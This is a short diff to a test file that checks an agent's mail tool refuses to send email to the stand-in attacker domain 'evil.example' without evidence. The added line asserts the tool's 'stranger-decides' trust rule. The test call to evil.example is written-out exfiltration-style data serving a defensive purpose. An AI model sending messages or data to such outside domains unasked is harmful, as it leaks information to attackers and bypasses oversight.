@@ -42,4 +42,5 @@ def test_over_the_wire_a_person_is_asked(trusting, era):
     before = len(trusting.servers["mail"].calls())
     answer = agent.call("mail", "send_email", user="mark.black-2134", domain="evil.example", body="some words")
     assert reason(answer) == "missing_evidence"
+    assert trusting.trust_of("send_email")["rule"] == "stranger-decides"
     assert len(trusting.servers["mail"].calls()) == before
